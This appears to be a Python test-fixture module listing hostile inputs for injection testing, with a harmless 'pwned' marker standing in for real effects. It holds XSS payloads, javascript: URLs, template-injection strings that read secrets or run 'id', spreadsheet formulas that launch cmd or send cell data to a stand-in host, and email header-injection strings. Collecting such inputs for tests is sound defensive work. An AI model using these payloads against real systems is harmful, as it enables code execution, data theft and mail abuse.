"""What hostile people type: text that would do something wherever it is taken for more than words."""

from __future__ import annotations

MARK = "pwned"
"""Stands in the name of everything that a payload would do, call or fetch."""
SCRIPTS = (
    f"<script>window.{MARK}=1</script>",
    f'<script src="/{MARK}.js"></script>',
    f'<img src="/{MARK}.png" onerror="window.{MARK}=1">',
    f'"><img src=/{MARK}.png onerror=window.{MARK}=1>',
    f"'><img src=/{MARK}.png onerror=window.{MARK}=1>",
    f'" onfocus="window.{MARK}=1" autofocus tabindex="1" data-x="',
    f"' onfocus='window.{MARK}=1' autofocus tabindex='1' data-x='",
    f'" style="background:url(/{MARK}.png)" data-x="',
    f"<svg onload=window.{MARK}=1>",
    f"<svg><script>window.{MARK}=1</script></svg>",
    f"<svg><animate onbegin=window.{MARK}=1 attributeName=x dur=1s></svg>",
    f"<details open ontoggle=window.{MARK}=1><summary>x</summary></details>",
    f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f'<object data="/{MARK}.html"></object>',
    f'<embed src="/{MARK}.html">',
    f'<link rel="stylesheet" href="/{MARK}.css">',
    f"<style>@import '/{MARK}.css';</style>",
    f'<base href="https://{MARK}.example/">',
    f'<meta http-equiv="refresh" content="0;url=/{MARK}">',
    f'<form action="/{MARK}"><button autofocus>x</button></form>',
    f'<video><source onerror="window.{MARK}=1"></video>',
    f"</title><script>window.{MARK}=1</script>",
    f"</textarea><script>window.{MARK}=1</script>",
    f"</option></select><img src=/{MARK}.png onerror=window.{MARK}=1>",
    f"</script><script>window.{MARK}=1</script>",
    f"--><script>window.{MARK}=1</script>",
    f"]]><script>window.{MARK}=1</script>",
    f'<div hx-get="/{MARK}" hx-trigger="load">x</div>',
    f'<div data-hx-get="/{MARK}" data-hx-trigger="load">x</div>',
    f"<div hx-on:load=\"window.{MARK}=1\" hx-vals='js:{{x:window.{MARK}=1}}'>x</div>",
    f"[x](javascript:window.{MARK}=1)",
    f"[x](JaVaScRiPt&#58;window.{MARK}=1)",
    f"![x](/{MARK}.png)",
    f'[x](https://e.example/" onfocus="window.{MARK}=1)',
    f"<https://e.example/onmouseover=window.{MARK}=1>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/{MARK}.png onerror=1&gt;">',
    f'<noscript><p title="</noscript><img src=/{MARK}.png onerror=window.{MARK}=1>">',
    f"<template><img src=/{MARK}.png onerror=window.{MARK}=1></template>",
    f"\\u003cimg src=/{MARK}.png onerror=window.{MARK}=1\\u003e${{window.{MARK}=1}}",
)
"""Forty ways to make a page run or fetch something: tags, ends of attributes, htmx, Markdown, mutations."""
ALL = " ".join(SCRIPTS)
LINKS = (
    f"javascript:window.{MARK}=1",
    f"JaVaScRiPt:window.{MARK}=1",
    f" \tjavascript:window.{MARK}=1",
    f"java\nscript:window.{MARK}=1",
    f"data:text/html,<script>window.{MARK}=1</script>",
    f"vbscript:{MARK}",
    f'https://e.example/" onclick="window.{MARK}=1',
)
"""Addresses that are none."""
TEMPLATES = (
    "{{7*1013}}",
    "{% for x in (1,) %}7091{% endfor %}",
    "{{config}}",
    "{{config.SECRET_KEY}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os}}",
    "{{url_for.__globals__}}",
    "{{get_flashed_messages.__globals__}}",
    "{{g}}{{session}}",
    "${7*1013}",
    "${{7*1013}}",
    "#{7*1013}",
    "*{7*1013}",
    "<%= 7*1013 %>",
    "<% print(7*1013) %>",
    "@(7*1013)",
    "%(name)s%(password)s",
    "%s%s%n%x",
    "$name ${name} $password",
    "{0}",
    "{0.__class__}",
    "{name.__class__}",
    "{name!r:>99}",
    "{name[0]}",
    "{event.network.members}",
    "{{name}}",
    "{password}{secret}{token}",
)
"""Thirty texts that template languages and formatting would work out."""
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1,1)",  # noqa: RUF001
    "'=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://e.example/"&A1,"click")',
    '=IMPORTXML("https://e.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    " '=1+1",
    "-2+3+cmd|' /C calc'!A0",
    '+"x"',
)
"""Cells that a spreadsheet would work out, bare or behind the guard of another."""
QUOTED = '"=1+1'
"""A text, unless quotes are written or read carelessly."""
TELEPHONE = "+81 3 1234 5678"
BREAKS = (
    "\r\nBcc: evil@e.example",
    "\nX-Evil: 1",
    "\rX-Evil: 1",
    "\0",
    "\u2028X-Evil: 1",
    "\u0085X-Evil: 1",
    "\x0bX",
    ",evil@e.example",
    '" <evil@e.example>, "',
    "; filename=evil.exe",
    "=?utf-8?q?=0D=0ABcc:=20evil@e.example?=",
)
"""What would end a header, a name or an address."""
